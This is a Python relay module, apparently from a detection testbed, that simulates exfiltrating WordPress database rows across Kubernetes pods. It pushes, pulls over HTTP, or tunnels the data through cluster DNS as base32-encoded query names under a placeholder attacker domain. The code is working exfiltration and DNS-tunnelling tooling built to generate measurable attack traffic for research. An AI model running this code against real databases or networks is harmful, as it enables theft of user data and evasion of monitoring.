"""One hop of a physical exfiltration: a real process in a pod's namespace that moves real bytes to the next one.

The source reads rows of the WordPress database through a member's unix socket and sends them at the window's
rate and shape; middle hops forward what arrives; the last hop pushes to the world's receiver, tunnels through
cluster DNS, or serves the implant behind nginx for a client at the front door. Who opens a connection follows
the threat model: a hop pulls (`--pull`, the data in an HTTP response) where the application's own traffic goes
that way, otherwise the sender pushes (`--push`). Every hop writes a JSON summary when its upstream ends or on
SIGTERM, so the run can compare what left the source with what reached the sink.

Only the standard library: the process starts fast inside `ip netns exec`.
"""

from __future__ import annotations

import argparse
import base64
import binascii
import contextlib
import hashlib
import http.client
import json
import math
import queue
import random
import re
import selectors
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from types import FrameType
from typing import Any

from mimir.errors import TestbedError

TICK = 0.25  # seconds between the source's chunks: a constant window is even at any scale the features see
RETRY = 0.1  # seconds between connection attempts (a hop starts before the one it connects to is listening)
CHUNK = 65536
HEADER = b"EXFIL"  # the first line of a push to the world names the window: `EXFIL <tag>\n`
EXFIL_PORT = 443  # the attacker's server, as in the synthetic source (routing.EXFIL_PORT)
TUNNEL_DOMAIN = "t.exfil.example"  # tunnel names: <base32 data labels>.<seq>.<window tag>.t.exfil.example
TUNNEL_QUERY = 250  # bytes of a tunnel query at most, as in the synthetic source (routing.TUNNEL_QUERY)
TUNNEL_INFLIGHT, TUNNEL_TIMEOUT, TUNNEL_TRIES = 16, 1.0, 5
_TABLE = re.compile(r"[A-Za-z0-9_]+")


class Terminated(Exception):
    """SIGTERM: the run stops the hop; it still writes its summary."""


# the source's data and timing -----------------------------------------------------------------------------------
def schedule(total: int, duration: float, shape: str, rng: random.Random, bursts: int, burst_seconds: float,
             ) -> list[tuple[float, int]]:  # fmt: skip
    """(seconds after the first byte, bytes) of each chunk: evenly over the window from its first to its last
    second, or in `bursts` bursts of `burst_seconds` that start where the seeded rng puts them (as the synthetic
    source places them), every chunk of the same size."""
    if shape == "constant":
        n = max(int(duration / TICK), 1) + 1
        times = [duration * i / (n - 1) for i in range(n)]
    elif shape == "bursts":
        slack = max(int(duration - bursts * burst_seconds), 0)
        begins = [b + k * burst_seconds for k, b in enumerate(sorted(rng.randint(0, slack) for _ in range(bursts)))]
        m = max(int(burst_seconds / TICK), 1) + 1
        times = [b + burst_seconds * j / (m - 1) for b in begins for j in range(m)]
    else:
        raise TestbedError(f"shape {shape!r}: constant or bursts")
    n = len(times)
    return [(t, total // n + (i < total % n)) for i, t in enumerate(times) if total // n + (i < total % n)]


def read_rows(socket_path: str, database: str, tables: list[str], name: str, errors: list[str]) -> bytes:
    """Every row of the tables as the mariadb client prints them (tab-separated, with the column names): a table
    that cannot be read is an error in the summary, no rows at all a TestbedError."""
    rows = []
    for table in tables:
        if not _TABLE.fullmatch(table):
            raise TestbedError(f"{name}: {table!r} is not a table name")
        command = ["mariadb", f"--socket={socket_path}", "--batch", f"--database={database}",
                   "-e", f"SELECT * FROM `{table}`"]  # fmt: skip  # noqa: S608 (a checked name)
        done = subprocess.run(command, capture_output=True, timeout=60, check=False)
        if done.returncode != 0:
            errors.append(f"{name}: reading {database}.{table}: {done.stderr.decode(errors='replace').strip()}")
            continue
        rows.append(done.stdout)
    data = b"".join(rows)
    if not data:
        raise TestbedError(f"{name}: no rows in {database} tables {', '.join(tables)} (socket {socket_path})")
    return data


def repeat(data: bytes, total: int) -> bytes:
    """The rows again and again until `total` bytes: a small database still fills the window."""
    return (data * (total // len(data) + 1))[:total]


# DNS tunnel encoding --------------------------------------------------------------------------------------------
def tunnel_capacity(tag: str, seq: int) -> int:
    """Data bytes that fit one query of TUNNEL_QUERY bytes (header 12, type and class 4, the name's labels)."""
    fixed = sum(len(label) + 1 for label in (str(seq), tag, *TUNNEL_DOMAIN.split("."))) + 1
    budget = TUNNEL_QUERY - 16 - fixed  # for the data labels, each with its length byte
    chars = budget - math.ceil(budget / 64)
    return chars * 5 // 8


def tunnel_name(tag: str, seq: int, data: bytes) -> str:
    text = base64.b32encode(data).decode().rstrip("=").lower()
    labels = [text[i : i + 63] for i in range(0, len(text), 63)]
    return ".".join([*labels, str(seq), tag, TUNNEL_DOMAIN])


def decode_tunnel(name: str) -> tuple[str, int, bytes] | None:
    """(window tag, seq, data) of a tunnel name, None for any other name."""
    name = name.lower().rstrip(".")
    if not name.endswith("." + TUNNEL_DOMAIN):
        return None
    parts = name[: -len(TUNNEL_DOMAIN) - 1].split(".")
    if len(parts) < 3 or not parts[-2].isdigit():
        return None
    text = "".join(parts[:-2]).upper()
    try:
        data = base64.b32decode(text + "=" * (-len(text) % 8))
    except binascii.Error:
        return None
    return parts[-1], int(parts[-2]), data


def dns_query(qid: int, name: str) -> bytes:
    """A recursive A query for `name`, as a stub resolver sends it."""
    wire = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + wire + struct.pack("!HH", 1, 1)


def resolver(path: Path = Path("/etc/resolv.conf")) -> str:
    """The pod's resolver: `ip netns exec` mounts the pod's resolv.conf (the kube-dns VIP) over /etc."""
    for line in path.read_text().splitlines():
        words = line.split()
        if len(words) >= 2 and words[0] == "nameserver":
            return words[1]
    raise TestbedError(f"{path}: no nameserver line")


# the hop ------------------------------------------------------------------------------------------------------
@dataclass
class Meter:
    """Bytes through one side of a hop: count, digest, first and last byte times (epoch seconds)."""

    bytes: int = 0
    first: float | None = None
    last: float | None = None
    digest: Any = field(default_factory=hashlib.sha256)

    def add(self, data: bytes) -> None:
        now = time.time()
        if self.first is None:
            self.first = now
        self.last = now
        self.bytes += len(data)
        self.digest.update(data)


@dataclass
class Hop:
    """What one relay process knows: its data queue between the input and output threads, meters and errors."""

    name: str
    chunks: queue.Queue[bytes | None] = field(default_factory=queue.Queue)
    ready: threading.Event = field(default_factory=threading.Event)  # the output can send: the source may start
    done: threading.Event = field(default_factory=threading.Event)  # the output has finished, well or not
    inbound: Meter = field(default_factory=Meter)
    outbound: Meter = field(default_factory=Meter)
    errors: list[str] = field(default_factory=list)
    input_complete: bool = False
    output_complete: bool = False
    facts: dict[str, Any] = field(default_factory=dict)

    def take(self, data: bytes) -> None:
        self.inbound.add(data)
        self.chunks.put(data)

    def drain(self) -> Iterator[bytes]:
        """The chunks in order until the upstream ends."""
        while (data := self.chunks.get()) is not None:
            yield data

    def summary(self, args: argparse.Namespace) -> dict[str, Any]:
        return {
            "name": self.name,
            "input": _kind(args, ("source", "accept", "pull")),
            "output": _kind(args, ("push", "serve", "tunnel", "sink")),
            "bytes_in": self.inbound.bytes,
            "sha256_in": self.inbound.digest.hexdigest(),
            "first_in": self.inbound.first,
            "last_in": self.inbound.last,
            "bytes_out": self.outbound.bytes,
            "sha256_out": self.outbound.digest.hexdigest(),
            "first_out": self.outbound.first,
            "last_out": self.outbound.last,
            "complete": self.input_complete and self.output_complete and not self.errors,
            "errors": self.errors,
            **self.facts,
        }


def _kind(args: argparse.Namespace, kinds: tuple[str, ...]) -> str:
    return next(k for k in kinds if getattr(args, k) not in (None, False))


def _address(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host, int(port)


def _connect(hop: Hop, address: tuple[str, int], patience: float) -> socket.socket:
    """A connection, retried until `patience` runs out: the peer may not be listening yet."""
    deadline = time.monotonic() + patience
    attempts = 0
    while True:
        attempts += 1
        try:
            sock = socket.create_connection(address, timeout=5)
        except OSError as e:
            if time.monotonic() > deadline:
                raise TestbedError(f"{hop.name}: cannot connect to {address[0]}:{address[1]} ({e.strerror or e}, "
                                   f"{attempts} attempts in {patience:g} s)") from None  # fmt: skip
            time.sleep(RETRY)
            continue
        sock.settimeout(None)
        hop.facts["attempts"] = attempts
        return sock


def _listen(address: tuple[str, int], hop: Hop) -> socket.socket:
    try:
        return socket.create_server(address, reuse_port=False)
    except OSError as e:
        raise TestbedError(f"{hop.name}: cannot listen on {address[0]}:{address[1]}: {e.strerror or e}") from None


# inputs ---------------------------------------------------------------------------------------------------------
def source(hop: Hop, args: argparse.Namespace) -> None:
    """The rows at the window's rate and shape, from when the output can send."""
    rows = read_rows(args.source, args.database, args.table, hop.name, hop.errors)
    hop.inbound.add(rows)
    hop.facts["rows_bytes"] = len(rows)
    data = repeat(rows, args.bytes)
    rng = random.Random(args.seed)  # noqa: S311 (reproducible burst times, not secrets)
    plan = schedule(args.bytes, args.duration, args.shape, rng, args.bursts, args.burst_seconds)
    hop.ready.wait()
    start, at = time.monotonic(), 0
    for offset, size in plan:
        time.sleep(max(start + offset - time.monotonic(), 0))
        hop.chunks.put(data[at : at + size])
        at += size


def accept(hop: Hop, address: tuple[str, int]) -> None:
    """The upstream hop pushes: one connection, read to its end."""
    with _listen(address, hop) as server:
        conn, _ = server.accept()
    with conn:
        while data := conn.recv(CHUNK):
            hop.take(data)


def pull(hop: Hop, url: str, patience: float, bind: str | None = None) -> None:
    """GET the upstream's data, on a new connection each time until one answers 200 (through a NodePort, another
    pod's nginx answers 502 since no implant listens behind it), then read the streamed body to its end. `bind`:
    the client's own address (the attacker's, in the world)."""
    parts = urllib.parse.urlsplit(url)
    address = (parts.hostname or "", parts.port or 80)
    statuses: dict[str, int] = {}
    hop.facts["statuses"] = statuses
    deadline = time.monotonic() + patience
    while True:
        hop.facts["attempts"] = hop.facts.get("attempts", 0) + 1
        conn = http.client.HTTPConnection(*address)
        try:
            conn.sock = sock = socket.create_connection(address, timeout=5, source_address=(bind, 0) if bind else None)
            conn.request("GET", parts.path or "/", headers={"User-Agent": "curl/7.88.1", "Accept": "*/*"})
            response = conn.getresponse()
            status = str(response.status)
            if response.status == 200:
                sock.settimeout(None)  # a window's bursts may be minutes apart
                while data := response.read1(CHUNK):
                    hop.take(data)
                return
            response.read()
        except (OSError, http.client.HTTPException) as e:
            status = type(e).__name__
        finally:
            conn.close()
        statuses[status] = statuses.get(status, 0) + 1
        if time.monotonic() > deadline:
            raise TestbedError(f"{hop.name}: no data from {url} in {patience:g} s: {statuses}")
        time.sleep(RETRY)


def run_input(hop: Hop, args: argparse.Namespace) -> None:
    try:
        if args.source:
            source(hop, args)
        elif args.accept:
            accept(hop, _address(args.accept))
        else:
            pull(hop, args.pull, args.patience, args.bind)
        hop.input_complete = True
    except (OSError, TestbedError, subprocess.SubprocessError, http.client.HTTPException) as e:
        hop.errors.append(str(e) if isinstance(e, TestbedError) else f"{hop.name}: input: {e}")
    finally:
        hop.chunks.put(None)


# outputs --------------------------------------------------------------------------------------------------------
def push(hop: Hop, address: tuple[str, int], announce: str | None, patience: float) -> None:
    """Connect and write everything; after the end, wait for the peer to close: it has read it all."""
    with _connect(hop, address, patience) as sock:
        if announce:
            sock.sendall(HEADER + b" " + announce.encode() + b"\n")
        hop.ready.set()
        for data in hop.drain():
            sock.sendall(data)
            hop.outbound.add(data)
        sock.shutdown(socket.SHUT_WR)
        sock.settimeout(30)
        while sock.recv(CHUNK):
            pass


def serve(hop: Hop, address: tuple[str, int]) -> None:
    """Answer one GET with the data as a streamed body; the listener closes once a client gets it."""
    with _listen(address, hop) as server:
        while True:
            conn, _ = server.accept()
            conn.settimeout(10)
            try:
                head = _request_head(conn)
            except OSError:
                conn.close()
                continue
            if head.startswith(b"GET "):
                break
            with conn:
                conn.sendall(b"HTTP/1.0 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n")
    with conn:
        conn.settimeout(None)
        conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nCache-Control: no-store\r\n\r\n")
        hop.ready.set()
        for data in hop.drain():
            conn.sendall(data)
            hop.outbound.add(data)


def _request_head(conn: socket.socket) -> bytes:
    head = b""
    while b"\r\n\r\n" not in head and len(head) < 8192:
        data = conn.recv(4096)
        if not data:
            break
        head += data
    return head


def tunnel(hop: Hop, tag: str) -> None:
    """The data in the names of A queries to the pod's resolver (cluster DNS forwards them to the world), up to
    TUNNEL_INFLIGHT unanswered at a time, each resent after TUNNEL_TIMEOUT until it gets an answer. Each query
    leaves from a socket of its own, as a stub resolver's lookups do, so the VIP picks a DNS pod for each."""
    server = resolver()
    hop.facts.update(resolver=server, queries=0, retransmits=0, max_query=0)
    pending: dict[socket.socket, list[Any]] = {}  # its socket -> [packet, sent at, tries, seq]
    seq = 0
    with selectors.DefaultSelector() as selector:
        hop.ready.set()
        try:
            for chunk in hop.drain():
                rest = chunk
                while rest:
                    size = tunnel_capacity(tag, seq)
                    piece, rest = rest[:size], rest[size:]
                    while len(pending) >= TUNNEL_INFLIGHT:
                        _answers(hop, selector, pending)
                    packet = dns_query(seq & 0xFFFF, tunnel_name(tag, seq, piece))
                    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    sock.connect((server, 53))
                    sock.send(packet)
                    selector.register(sock, selectors.EVENT_READ, sock)
                    pending[sock] = [packet, time.monotonic(), 1, seq]
                    hop.outbound.add(piece)
                    hop.facts["queries"] += 1
                    hop.facts["max_query"] = max(hop.facts["max_query"], len(packet))
                    seq += 1
            while pending:
                _answers(hop, selector, pending)
        finally:
            for sock in pending:
                sock.close()


def _answers(hop: Hop, selector: selectors.BaseSelector, pending: dict[socket.socket, list[Any]]) -> None:
    """Take the answers that arrive until the oldest query is due again; resend the queries that are due."""
    due = min(entry[1] for entry in pending.values()) + TUNNEL_TIMEOUT
    for key, _ in selector.select(max(due - time.monotonic(), 0.001)):
        sock = key.data
        try:
            answer = sock.recv(4096)
        except ConnectionRefusedError:  # the resolver is not up yet: as for a lost query, sent again when due
            continue
        # an error code (SERVFAIL from the resolver) leaves it due as well
        if len(answer) >= 12 and answer[:2] == pending[sock][0][:2] and answer[3] & 0x0F == 0:
            selector.unregister(sock)
            del pending[sock]
            sock.close()
    now = time.monotonic()
    for sock, entry in pending.items():
        if entry[1] + TUNNEL_TIMEOUT <= now:
            if entry[2] >= TUNNEL_TRIES:
                raise TestbedError(f"{hop.name}: tunnel query {entry[3]} unanswered after {TUNNEL_TRIES} tries")
            sock.send(entry[0])
            entry[1], entry[2] = now, entry[2] + 1
            hop.facts["retransmits"] += 1


def sink(hop: Hop) -> None:
    """The attacker's client at the front door keeps what arrives (counted and hashed, not stored)."""
    hop.ready.set()
    for data in hop.drain():
        hop.outbound.add(data)


def run_output(hop: Hop, args: argparse.Namespace) -> None:
    try:
        if args.push:
            push(hop, _address(args.push), args.announce, args.patience)
        elif args.serve:
            serve(hop, _address(args.serve))
        elif args.tunnel:
            tunnel(hop, args.tunnel)
        else:
            sink(hop)
        hop.output_complete = True
    except (OSError, TestbedError) as e:
        hop.errors.append(str(e) if isinstance(e, TestbedError) else f"{hop.name}: output: {e}")
    finally:
        hop.done.set()


# the process ------------------------------------------------------------------------------------------------------
def parse(argv: list[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="python -m mimir.sources.testbed.relay", description=__doc__.split("\n")[0])
    parser.add_argument("--name", required=True, help="the hop, as errors name it")
    parser.add_argument("--summary", type=Path, required=True, help="the JSON summary written at the end")
    inputs = parser.add_mutually_exclusive_group(required=True)
    inputs.add_argument("--source", metavar="SOCKET", help="read the rows through a database member's socket")
    inputs.add_argument("--accept", metavar="HOST:PORT", help="accept one pushed connection")
    inputs.add_argument("--pull", metavar="URL", help="GET the data from the upstream hop")
    parser.add_argument("--bind", metavar="ADDRESS", help="the address a --pull connects from")
    outputs = parser.add_mutually_exclusive_group(required=True)
    outputs.add_argument("--push", metavar="HOST:PORT", help="connect and send")
    outputs.add_argument("--serve", metavar="HOST:PORT", help="answer one GET with the data")
    outputs.add_argument("--tunnel", metavar="TAG", help="DNS queries to the pod's resolver, names tagged TAG")
    outputs.add_argument("--sink", action="store_true", help="keep what arrives")
    parser.add_argument("--announce", metavar="TAG", help="with --push: a first line naming the window")
    parser.add_argument("--patience", type=float, default=60, help="seconds to retry connecting")
    parser.add_argument("--database", default="wordpress")
    parser.add_argument("--table", action="append", default=[], help="a table to read (repeat)")
    parser.add_argument("--bytes", type=int, default=0, help="payload bytes the source sends")
    parser.add_argument("--duration", type=float, default=60)
    parser.add_argument("--shape", choices=("constant", "bursts"), default="constant")
    parser.add_argument("--bursts", type=int, default=4)
    parser.add_argument("--burst-seconds", type=float, default=3)
    parser.add_argument("--seed", type=int, default=0)
    return parser.parse_args(argv)


def _terminate(signum: int, frame: FrameType | None) -> None:
    raise Terminated


def write_summary(path: Path, summary: dict[str, Any]) -> None:
    """Written whole, then renamed: the run never reads half a summary."""
    tmp = path.with_name(f".{path.name}.tmp")
    tmp.write_text(json.dumps(summary, indent=1) + "\n")
    tmp.replace(path)


def main(argv: list[str] | None = None) -> int:
    args = parse(argv)
    hop = Hop(args.name)
    signal.signal(signal.SIGTERM, _terminate)
    try:
        for target in (run_input, run_output):
            threading.Thread(target=target, args=(hop, args), daemon=True).start()
        while not hop.done.wait(0.5):
            pass
    except (Terminated, KeyboardInterrupt):
        hop.errors.append(f"{hop.name}: stopped before its upstream ended")
    finally:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        with contextlib.suppress(OSError):
            args.summary.parent.mkdir(parents=True, exist_ok=True)
        write_summary(args.summary, hop.summary(args))
    return 0 if not hop.errors else 1


if __name__ == "__main__":
    sys.exit(main())
